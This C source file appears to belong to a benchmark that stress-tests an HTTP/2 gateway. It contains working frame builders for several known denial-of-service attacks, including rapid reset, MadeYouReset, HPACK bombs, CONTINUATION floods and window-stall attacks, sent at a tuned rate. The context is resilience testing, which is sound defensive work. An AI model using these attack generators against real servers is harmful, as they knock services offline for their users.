/* Attackers beside the load: connections that say raw octets at a rate of their own, and are made anew when they are told off.
 *
 * pings         PING frames
 * settings      SETTINGS frames
 * resets        a request and its RST_STREAM (rapid reset, CVE-2023-44487)
 * made-resets   a request and a WINDOW_UPDATE of nothing, for which the gateway has to reset it (MadeYouReset, CVE-2025-8671)
 * headers       a request of forty fields that are in no table, and its RST_STREAM
 * bombs         a request of a hundred octets that say a field of the table of 3,500 octets a hundred times (CVE-2016-6581)
 * continuations a header block of a CONTINUATION a unit, that never ends
 * windows       a hundred requests with no window for their answers, of which the gateway keeps what fits one; then an octet of window for one of them (CVE-2019-9511, 9517)
 * answers       the same, but with new requests all the time, the oldest of a hundred being reset: 64 KiB that the gateway keeps in vain, each
 * octets        an octet of a message: many connections that hardly speak
 *
 * The rate is found by trial: as much as makes the gateway's worker so busy in all. */
#include "bench.h"

#include <stdlib.h>

#define WINDOWS_OPEN 100
#define ANSWER       65535
#define SEGMENT      1400  /* octets of it in a frame */
#define OVERHEAD     113   /* DATA's header, TCP, IP, Ethernet, preamble, gap */
#define WIRE_GBIT    25    /* between backends and gateway */
#define LATE_NS      20000 /* what is made up for, at most */

enum { F_DATA = 0, F_HEADERS = 1, F_RST = 3, F_SETTINGS = 4, F_PING = 6, F_WINDOW = 8, F_CONTINUATION = 9 };

const char *const options_attacks[] = {"none", "pings", "settings", "resets", "made-resets", "headers", "bombs", "continuations", "windows", "answers", "octets", NULL};

static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

static uint8_t *frame(uint8_t *p, uint32_t n, uint8_t type, uint8_t flags, uint32_t id)
{
    const uint8_t head[9] = {(uint8_t)(n >> 16), (uint8_t)(n >> 8), (uint8_t)n, type, flags, (uint8_t)(id >> 24), (uint8_t)(id >> 16), (uint8_t)(id >> 8), (uint8_t)id};
    memcpy(p, head, 9);
    return p + 9;
}

static uint8_t *octets(uint8_t *p, const void *data, size_t n)
{
    memcpy(p, data, n);
    return p + n;
}

static uint8_t *word(uint8_t *p, uint32_t v)
{
    return octets(p, (const uint8_t[4]){(uint8_t)(v >> 24), (uint8_t)(v >> 16), (uint8_t)(v >> 8), (uint8_t)v}, 4);
}

/* POST, http, the path, the authority, content-type, te: none of them put into a table. */
static const char block[] = "\x83\x86\x04\x12/bench.Echo/Attack\x01\x08"
                            "attacker\x0f\x10\x10"
                            "application/grpc\x00\x02te\x08trailers";
#define BLOCK (sizeof(block) - 1)

/* `more` octets of the block follow. */
static uint8_t *request_and(struct attacker *a, uint8_t *p, uint32_t more, bool end)
{
    a->stream += 2;
    p = frame(p, (uint32_t)BLOCK + more, F_HEADERS, end ? 5 : 4, a->stream);
    return octets(p, block, BLOCK);
}

static uint8_t *request(struct attacker *a, uint8_t *p, bool end)
{
    return request_and(a, p, 0, end);
}

#define FIELDS    40
#define BOMB      3500
#define BOMB_TEXT (9 + BLOCK + BOMB + 16)

/* The same with fields that nobody knows. */
static uint8_t *request_of_many(struct attacker *a, uint8_t *p)
{
    static const char field[] = "\x00\x01x\x05value";
    p = request_and(a, p, FIELDS * (sizeof(field) - 1), false);
    for (int i = 0; i < FIELDS; i++)
        p = octets(p, field, sizeof(field) - 1);
    return p;
}

/* A field of BOMB octets comes into the table... */
static uint8_t *bomb(struct attacker *a, uint8_t *p)
{
    const uint8_t head[] = {0x40, 1, 'x', 0x7f, (BOMB - 127) % 128 | 0x80, (BOMB - 127) / 128};
    p = octets(request_and(a, p, sizeof(head) + BOMB, true), head, sizeof(head));
    memset(p, 'v', BOMB);
    return p + BOMB;
}

/* ...and is said again and again. */
static uint8_t *blast(struct attacker *a, uint8_t *p)
{
    p = request_and(a, p, 100, true);
    memset(p, 0x80 | 62, 100);
    return p + 100;
}

static uint8_t *reset(uint8_t *p, uint32_t id)
{
    return word(frame(p, 4, F_RST, 0, id), HTTP2_CANCEL);
}

/* What a connection begins with. */
static uint8_t *begin(const struct peer *p, struct attacker *a, uint8_t *at)
{
    at = octets(at, preface, sizeof(preface) - 1);
    bool windows = p->options.attack == ATTACK_WINDOWS || p->options.attack == ATTACK_ANSWERS;
    at = frame(at, windows ? 6 : 0, F_SETTINGS, 0, 0);
    if (windows)
        at = word(octets(at, "\0\4", 2), 0); /* SETTINGS_INITIAL_WINDOW_SIZE */
    a->stream = (uint32_t)-1;
    a->said = 0;
    if (p->options.attack == ATTACK_CONTINUATIONS) {
        at = octets(frame(at, BLOCK, F_HEADERS, 0, 1), block, BLOCK);
        a->stream = 1;
    }
    if (p->options.attack == ATTACK_OCTETS) {
        at = request(a, at, false);
        at = frame(at, 16384, F_DATA, 0, 1);
    }
    if (p->options.attack == ATTACK_BOMBS)
        at = bomb(a, at);
    return at;
}

/* One unit of it. */
static uint8_t *unit(const struct peer *p, struct attacker *a, uint8_t *at)
{
    static const uint8_t junk[100] = {0};
    switch (p->options.attack) {
    case ATTACK_PINGS:
        return octets(frame(at, 8, F_PING, 0, 0), "attacker", 8);
    case ATTACK_SETTINGS:
        return word(octets(frame(at, 6, F_SETTINGS, 0, 0), "\0\3", 2), 100); /* SETTINGS_MAX_CONCURRENT_STREAMS */
    case ATTACK_RESETS:
        at = request(a, at, false);
        return reset(at, a->stream);
    case ATTACK_MADE_RESETS:
        at = request(a, at, false);
        return word(frame(at, 4, F_WINDOW, 0, a->stream), 0);
    case ATTACK_HEADERS:
        at = request_of_many(a, at);
        return reset(at, a->stream);
    case ATTACK_BOMBS:
        return blast(a, at);
    case ATTACK_CONTINUATIONS: { /* an empty literal field after the other */
        at = frame(at, sizeof(junk), F_CONTINUATION, 0, 1);
        for (unsigned i = 0; i < sizeof(junk) / 4; i++)
            at = octets(at, "\x00\x01x\x00", 4);
        return at;
    }
    case ATTACK_WINDOWS:
        if (a->said++ < WINDOWS_OPEN)
            return request(a, at, true);
        return word(frame(at, 4, F_WINDOW, 0, 1 + 2 * (a->said % WINDOWS_OPEN)), 1);
    case ATTACK_ANSWERS:
        at = request(a, at, true);
        return a->stream > 2 * WINDOWS_OPEN ? reset(at, a->stream - 2 * WINDOWS_OPEN) : at;
    case ATTACK_OCTETS:
        if (a->said++ == 16384) {
            at = frame(at, 16384, F_DATA, 0, 1);
            a->said = 1;
        }
        return octets(at, junk, 1);
    case ATTACK_NONE:
        break;
    }
    return at;
}

static void come(struct peer *p, struct attacker *a, uint64_t now)
{
    struct base_flow flow = {.local = p->options.address, .remote = p->options.gateway, .remote_port = p->options.listener_port};
    a->transport = transport_connect(p->tcp, &flow, now);
    a->ready = false;
    if (a->transport.kind != TRANSPORT_NONE) {
        transport_user_set(&a->transport, a);
        p->attack.connects++;
    }
}

bool attack_create(struct peer *p)
{
    struct attack *k = &p->attack;
    k->count = p->options.attack == ATTACK_NONE ? 0 : p->options.attack == ATTACK_OCTETS ? ATTACKERS_MAX : 16;
    k->attacker = calloc(ATTACKERS_MAX, sizeof(*k->attacker));
    k->answer = calloc(ANSWERS_MAX, sizeof(*k->answer));
    base_list_init(&k->spare);
    base_list_init(&k->coming);
    for (uint32_t i = 0; k->answer != NULL && i < ANSWERS_MAX; i++)
        base_list_push_back(&k->spare, &k->answer[i].link);
    return k->attacker != NULL && k->answer != NULL;
}

struct attacker *attack_of(const struct peer *p, const void *user)
{
    const struct attacker *a = user;
    return a >= p->attack.attacker && a < p->attack.attacker + p->attack.count ? (struct attacker *)(uintptr_t)a : NULL;
}

void attack_event(struct peer *p, struct attacker *a, uint32_t events, uint64_t now)
{
    uint8_t text[256 + BOMB_TEXT];
    const uint8_t *in;
    if (events & TCP_EVENT_CONNECTED) {
        size_t n = (size_t)(begin(p, a, text) - text);
        a->ready = transport_write(&a->transport, text, n) == n;
    }
    for (size_t n; (n = transport_peek(&a->transport, &in)) > 0;)
        transport_consume(&a->transport, n);
    if (!(events & (TCP_EVENT_FIN | TCP_EVENT_CLOSED)))
        return;
    a->ready = false;
    transport_abort(&a->transport, now); /* and no TIME-WAIT of ours */
    a->transport.kind = TRANSPORT_NONE;
}

static bool say(struct peer *p, struct attacker *a)
{
    uint8_t text[512];
    if (!a->ready || transport_room(&a->transport) < sizeof(text))
        return false;
    size_t n = (size_t)(unit(p, a, text) - text);
    a->ready = transport_write(&a->transport, text, n) == n;
    p->attack.said++;
    return true;
}

#define BEHIND 256 /* units that are made up for, at most */
#define COMERS 4   /* connections begun a turn */

static void answers_come(struct peer *p, uint64_t now);

void attack_turn(struct peer *p, uint64_t now)
{
    struct attack *k = &p->attack;
    answers_come(p, now);
    if (k->rate == 0 || k->count == 0)
        return;
    if (k->since_ns == 0 || now < k->since_ns)
        k->since_ns = now;
    uint64_t due = (uint64_t)((double)(now - k->since_ns) * k->rate / 1e9);
    if (due == 0)
        return;
    k->since_ns += (uint64_t)((double)due * 1e9 / k->rate);
    due = due < BEHIND ? due : BEHIND;
    uint32_t comers = 0;
    for (uint32_t tried = 0; due > 0 && tried < k->count; tried++) {
        struct attacker *a = &k->attacker[k->next++ % k->count];
        if (a->transport.kind == TRANSPORT_NONE && comers++ < COMERS)
            come(p, a, now);
        while (due > 0 && say(p, a)) {
            due--;
            if (p->options.attack == ATTACK_OCTETS)
                break;
            if (due % 8 == 0)
                break;
        }
    }
}

/* ---- at the backend ---- */

static bool attack_request(const struct base_headers *h)
{
    const struct base_header *f = base_headers_find(h, BASE_HEADER_PATH);
    return f != NULL && base_header_value_is(f, "/bench.Echo/Attack");
}

static struct answer *answer_of(const struct peer *p, void *user)
{
    struct answer *a = user, *all = p->attack.answer;
    return a >= all && a < all + ANSWERS_MAX ? a : NULL;
}

static void answer_end(struct peer *p, struct answer *a)
{
    base_list_remove(&a->link);
    base_list_push_back(&p->attack.spare, &a->link);
    session_release(a->stream);
}

/* A segment's worth of an answer each time that the wire is free, one answer after the other; what is sent at once would be there at once, as no wire brings it. */
static void answers_come(struct peer *p, uint64_t now)
{
    static const uint8_t octets[SEGMENT];
    struct attack *k = &p->attack;
    while (!base_list_empty(&k->coming) && k->wire_ns <= now) {
        struct answer *a = base_container(k->coming.next, struct answer, link);
        uint32_t n = a->left < SEGMENT ? a->left : SEGMENT;
        k->wire_ns = (k->wire_ns + LATE_NS > now ? k->wire_ns : now) + (SEGMENT + OVERHEAD) * 8 / WIRE_GBIT;
        session_data(a->stream, octets, n, false);
        a->left -= n;
        base_list_remove(&a->link);
        if (a->left > 0)
            base_list_push_front(&k->coming, &a->link);
    }
}

/* An answer of one window, without an end, to a request that has ended; the rest is listened to. */
bool attack_backend_event(struct peer *p, struct session_stream *st, const struct http2_event *ev)
{
    struct attack *k = &p->attack;
    if (ev->type == HTTP2_EVENT_HEADERS && ev->opened && attack_request(ev->headers)) {
        if (base_list_empty(&k->spare))
            abort(); /* there are more than streams */
        struct answer *a = base_container(base_list_pop_front(&k->spare), struct answer, link);
        base_list_init(&a->link);
        a->stream = st;
        a->left = ANSWER;
        st->user = a;
    }
    struct answer *a = answer_of(p, st->user);
    if (a == NULL)
        return false;
    if (ev->type == HTTP2_EVENT_RESET) {
        answer_end(p, a);
        return true;
    }
    if (ev->type == HTTP2_EVENT_DATA && !ev->end_stream)
        http2_stream_credit(ev->stream, ev->flow);
    if (ev->type == HTTP2_EVENT_HEADERS && ev->end_stream) {
        calls_response_fields(&p->fields);
        if (session_headers(st, &p->fields, false))
            base_list_push_back(&k->coming, &a->link);
    }
    return true;
}
